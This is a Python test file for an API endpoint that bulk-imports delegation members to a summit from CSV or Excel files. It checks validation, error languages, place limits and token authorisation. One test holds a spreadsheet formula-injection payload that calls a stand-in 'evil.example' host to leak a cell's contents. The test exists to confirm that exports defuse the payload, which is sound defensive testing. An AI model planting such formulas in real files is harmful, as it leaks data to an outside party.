"""POST /api/v1/delegations/self/members.csv, as the contract has it: a file, all rows or none.

Through the API's door (the test client, the delegation's bearer token), on SQLite and PostgreSQL
(SUMMIT_TEST_DATABASE_URL). Also: an imported formula comes out defused in the console's exports.
"""
from __future__ import annotations

import csv
import io

from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from support.console_support import api_token, csv_rows, sign_in
from support.factories import letters, register, route
from summit.models import Delegate, Delegation
from summit.plumbing.extensions import db
from summit.services.accreditation import delegations, member_files

PATH = "/api/v1/delegations/self/members.csv"
HEADER = ["given_name", "family_name", "email", "organisation", "country", "category"]


def csv_bytes(rows, *, delimiter=",", bom=True, encoding="utf-8") -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return (b"\xef\xbb\xbf" if bom else b"") + out.getvalue().encode(encoding)


def member(n: int, **overrides) -> list[str]:
    row = {"given_name": f"Given{letters(n)}", "family_name": "Diop", "email": f"member{n}@example.sn",
           "organisation": "Ministère des Transports", "country": "sn", "category": "government"}
    row.update(overrides)
    return [row[name] for name in HEADER]


def make_delegation(summit, places=10, **overrides) -> delegations.Issued:
    data = {"name_zh": "塞内加尔代表团", "name_en": "Delegation of Senegal", "country": "SN",
            "focal_name": "Awa Ndiaye", "focal_email": "focal@example.sn", "places": places, **overrides}
    return delegations.create_delegation(summit, data, None)


def bearer(issued) -> dict:
    return {"Authorization": f"Bearer {issued.token}"}


def post_csv(client, issued, data: bytes, query: str = "", **headers):
    return client.post(PATH + query, data=data, headers={**bearer(issued), "Content-Type": "text/csv", **headers})


def member_count(issued) -> int:
    db.session.rollback()
    return db.session.scalar(select(func.count()).select_from(Delegate).where(
        Delegate.delegation_id == issued.delegation.id))


def test_a_csv_body_creates_every_member(client, summit):
    issued = make_delegation(summit)
    response = post_csv(client, issued, csv_bytes([HEADER, member(1), member(2), member(3)]))
    assert response.status_code == 200, response.get_json()
    assert response.get_json() == {"created": 3}
    assert member_count(issued) == 3
    assert db.session.get(Delegation, issued.delegation.id, populate_existing=True).members_live == 3
    listed = client.get("/api/v1/delegations/self", headers=bearer(issued)).get_json()["members"]
    assert sorted(m["email"] for m in listed) == ["member1@example.sn", "member2@example.sn", "member3@example.sn"]
    assert {m["country"] for m in listed} == {"SN"}


def test_a_multipart_form_with_the_file_in_field_file_and_an_xlsx_body(client, summit):
    issued = make_delegation(summit)
    response = client.post(PATH, headers=bearer(issued), content_type="multipart/form-data", data={
        "file": (io.BytesIO(csv_bytes([HEADER, member(1)], delimiter=";")), "members.csv", "text/csv")})
    assert response.status_code == 200 and response.get_json() == {"created": 1}
    book = Workbook()
    for row in (HEADER, member(2)):
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    response = client.post(PATH, data=out.getvalue(), headers={**bearer(issued), "Content-Type": kind})
    assert response.status_code == 200 and response.get_json() == {"created": 1}
    response = client.post(PATH, headers=bearer(issued), content_type="multipart/form-data", data={
        "file": (io.BytesIO(out.getvalue()), "members.xlsx", "application/octet-stream")})
    assert response.status_code == 422  # the same member again: email taken
    assert member_count(issued) == 2


def test_a_form_without_the_file_field_is_422(client, summit):
    issued = make_delegation(summit)
    response = client.post(PATH, headers=bearer(issued), content_type="multipart/form-data",
                           data={"other": (io.BytesIO(b"x"), "a.csv")})
    assert response.status_code == 422 and "file" in response.get_json()["errors"]


def test_the_dry_run_checks_and_creates_nobody(client, summit):
    issued = make_delegation(summit)
    response = post_csv(client, issued, csv_bytes([HEADER, member(1), member(2)]), "?dry_run=1")
    assert response.status_code == 200 and response.get_json() == {"created": 0, "would_create": 2}
    assert member_count(issued) == 0
    assert post_csv(client, issued, csv_bytes([HEADER, member(1)]), "?dry_run=maybe").status_code == 422


def test_any_bad_row_is_422_keyed_by_its_file_line_naming_the_column_and_nothing_is_created(client, summit):
    issued = make_delegation(summit)
    data = csv_bytes([HEADER, member(1), member(2, email="not-an-email"), [""] * 6,
                      member(4, given_name="王", category="army")])
    for query in ("", "?dry_run=1"):
        response = post_csv(client, issued, data, query, **{"Accept-Language": "en"})
        assert response.status_code == 422, response.get_json()
        body = response.get_json()
        assert body["error"] == "validation_failed"
        assert set(body["errors"]) == {"row 3", "row 5"}  # line 4 is blank; the header is line 1
        assert body["errors"]["row 3"] == ["column C (email): This is not a valid email address."]
        assert any(m.startswith("column A (given_name): Please write this in Latin letters")
                   for m in body["errors"]["row 5"])
        assert "column F (category): Choose a category." in body["errors"]["row 5"]
    assert member_count(issued) == 0


def test_errors_come_in_the_focal_points_language(client, summit):
    issued = make_delegation(summit)
    data = csv_bytes([HEADER, member(1, email="bad")])
    body = post_csv(client, issued, data, **{"Accept-Language": "zh-CN"}).get_json()
    assert body["errors"]["row 2"][0].startswith("C 列（email）：")
    body = post_csv(client, issued, csv_bytes([HEADER[:-1], member(1)[:-1]]), **{"Accept-Language": "zh"}).get_json()
    assert body["errors"] == {"row 1": ["缺少必填列“category”。"]}


def test_duplicate_emails_within_the_file_and_against_existing_delegates(client, summit):
    register(summit, email="already@example.org")
    issued = make_delegation(summit)
    data = csv_bytes([HEADER, member(1), member(2, email="MEMBER1@example.sn"), member(3, email="Already@Example.org")])
    response = post_csv(client, issued, data, **{"Accept-Language": "en"})
    assert response.status_code == 422
    assert response.get_json()["errors"] == {
        "row 3": ["column C (email): The same email as row 2."],
        "row 4": ["column C (email): This email is already registered."]}
    assert member_count(issued) == 0


def test_the_reader_and_the_registration_rules_report_together_every_row(client, summit):
    issued = make_delegation(summit)
    data = csv_bytes([HEADER + ["banquet"], member(1) + ["maybe"], member(2, email="x") + ["yes"],
                      member(3, organisation="Adif\u202e") + [""]])
    errors = post_csv(client, issued, data, **{"Accept-Language": "en"}).get_json()["errors"]
    assert errors["row 2"] == ["column G (banquet): Must be yes or no (是 or 否)."]
    assert errors["row 3"] == ["column C (email): This is not a valid email address."]
    assert errors["row 4"][0].startswith("column D (organisation): Contains a text-direction control character")
    assert member_count(issued) == 0


def test_more_rows_than_free_places_is_409_delegation_full(client, summit):
    issued = make_delegation(summit, places=2)
    response = post_csv(client, issued, csv_bytes([HEADER, member(1), member(2), member(3)]))
    assert response.status_code == 409 and response.get_json()["error"] == "delegation_full"
    assert member_count(issued) == 0


def test_a_file_that_cannot_be_read_is_422_naming_why(client, summit):
    issued = make_delegation(summit)
    response = post_csv(client, issued, ",".join(HEADER).encode() + b"\r\nRen\xe9\r\n", **{"Accept-Language": "en"})
    assert response.status_code == 422 and "GB18030" in response.get_json()["errors"]["file"][0]
    response = post_csv(client, issued, csv_bytes([HEADER + ["consent"], member(1) + ["yes"]]))
    assert response.status_code == 422 and "row 1" in response.get_json()["errors"]


def test_a_gb18030_file_from_a_chinese_excel(client, summit):
    issued = make_delegation(summit)
    header = ["名", "姓", "本国文字姓名", "电子邮箱", "单位", "国家或地区", "类别"]
    data = csv_bytes([header, ["Wei", "Zhang", "张伟", "zw@example.cn", "交通运输部", "CN", "政府"]], bom=False,
                     encoding="gb18030")
    assert post_csv(client, issued, data).get_json() == {"created": 1}
    made = db.session.scalars(select(Delegate).where(Delegate.delegation_id == issued.delegation.id)).one()
    assert (made.native_name, made.organisation, made.category) == ("张伟", "交通运输部", "government")


def test_routes_and_booleans_are_taken_as_the_api_takes_them(client, summit):
    r1 = route(summit, "R1")
    issued = make_delegation(summit)
    data = csv_bytes([HEADER + ["route_id", "banquet", "title"], member(1) + [str(r1.id), "是", "H.E."],
                      member(2) + ["", "no", ""]])
    assert post_csv(client, issued, data).get_json() == {"created": 2}
    made = {d.email: d for d in db.session.scalars(select(Delegate).where(
        Delegate.delegation_id == issued.delegation.id))}
    first, second = made["member1@example.sn"], made["member2@example.sn"]
    assert (first.booking.route_id, first.banquet, first.title) == (r1.id, True, "H.E.")
    assert (second.booking, second.banquet) == (None, False)
    response = post_csv(client, issued, csv_bytes([HEADER + ["route_id"], member(3) + ["999999"]]),
                        **{"Accept-Language": "en"})
    assert response.status_code == 422 and response.get_json()["errors"]["row 2"][0].startswith("column G (route_id)")


def test_a_10000_row_file_is_read_whole_then_refused_for_its_places(client, summit):
    issued = make_delegation(summit, places=5)
    rows = [HEADER + ["native_name", "job_title"]] + [
        member(n) + ["阿瓦·恩迪亚耶", "Director-General of Land Transport"] for n in range(member_files.ROWS_MAX)]
    data = csv_bytes(rows)
    assert len(data) > 1024 * 1024  # past the API's usual 1 MiB body: the import takes up to BYTES_MAX
    response = post_csv(client, issued, data, "?dry_run=1")  # read and every row checked, then refused
    assert response.status_code == 409 and response.get_json()["error"] == "delegation_full"
    too_many = csv_bytes(rows + [member(member_files.ROWS_MAX) + ["", ""]])
    response = post_csv(client, issued, too_many, **{"Accept-Language": "en"})
    assert response.status_code == 422
    assert response.get_json()["errors"] == {"file": ["The file lists more than 10000 members."]}


def test_a_body_past_the_file_limit_is_413(client, summit):
    issued = make_delegation(summit)
    response = post_csv(client, issued, b"x" * (member_files.BYTES_MAX + 100 * 1024))
    assert response.status_code == 413


# ------------------------------------------------------------------ who may import

def test_no_token_is_401(client, summit):
    make_delegation(summit)
    response = client.post(PATH, data=csv_bytes([HEADER, member(1)]), headers={"Content-Type": "text/csv"})
    assert response.status_code == 401 and response.get_json()["error"] == "unauthorized"


def test_a_delegates_token_or_a_console_token_does_not_open_it(client, summit):
    issued = make_delegation(summit)
    data = csv_bytes([HEADER, member(1)])
    delegate = register(summit, email="someone@example.org")
    for headers in ({"Authorization": f"Bearer {delegate.manage_token}"}, api_token("organiser"),
                    {"Authorization": "Bearer not-a-token"}):
        response = client.post(PATH, data=data, headers={**headers, "Content-Type": "text/csv"})
        assert response.status_code == 401, headers
    assert member_count(issued) == 0


def test_another_delegations_token_imports_into_that_delegation_only(client, summit):
    ours, theirs = make_delegation(summit), make_delegation(summit, name_en="Delegation of Mali", country="ML")
    assert post_csv(client, theirs, csv_bytes([HEADER, member(1)])).get_json() == {"created": 1}
    assert (member_count(ours), member_count(theirs)) == (0, 1)


def test_a_revoked_delegations_token_is_401(client, summit):
    issued = make_delegation(summit)
    delegations.revoke_link(summit, issued.delegation.id, None)
    assert post_csv(client, issued, csv_bytes([HEADER, member(1)])).status_code == 401
    assert member_count(issued) == 0


# ------------------------------------------------------------------ formulas go out defused

def test_an_imported_formula_comes_out_defused_in_the_csv_and_xlsx_exports(client, summit):
    issued = make_delegation(summit)
    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Ministry")'
    book = Workbook()
    book.active.append(HEADER)
    book.active.append(member(1, organisation=formula))
    out = io.BytesIO()
    book.save(out)
    response = client.post(PATH, headers=bearer(issued), content_type="multipart/form-data",
                           data={"file": (io.BytesIO(out.getvalue()), "members.xlsx")})
    assert response.get_json() == {"created": 1}
    assert db.session.scalars(select(Delegate.organisation).where(
        Delegate.delegation_id == issued.delegation.id)).one() == formula  # kept as typed: it is text

    sign_in(client, "organiser")
    rows = csv_rows(client.get("/console/exports/delegates.csv").data.decode("utf-8-sig"))
    assert [row["organisation"] for row in rows] == ["'" + formula]
    sheet = load_workbook(io.BytesIO(client.get("/console/exports/delegates.xlsx").data)).worksheets[0]
    headers = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=headers.index("organisation") + 1)
    assert cell.value == formula and cell.data_type == "s"  # a string cell: Excel shows it, never runs it


def test_a_json_body_is_no_member_file(client, summit):
    issued = make_delegation(summit)
    response = client.post(PATH, json={"given_name": "Awa"}, headers=bearer(issued))
    assert response.status_code == 422 and "body" in response.get_json()["errors"]
    assert member_count(issued) == 0


def test_without_accept_language_the_errors_come_in_the_focal_points_own_language(client, summit):
    data = csv_bytes([HEADER, member(1, email="bad")])
    chinese = make_delegation(summit, focal_language="zh")
    english = make_delegation(summit, name_en="Delegation of Mali", country="ML", focal_language="en")
    assert post_csv(client, chinese, data).get_json()["errors"]["row 2"][0].startswith("C 列（email）：")
    assert post_csv(client, english, data).get_json()["errors"]["row 2"][0].startswith("column C (email):")
    asked = post_csv(client, chinese, data, **{"Accept-Language": "en"}).get_json()
    assert asked["errors"]["row 2"][0].startswith("column C (email):")  # the request's own choice wins
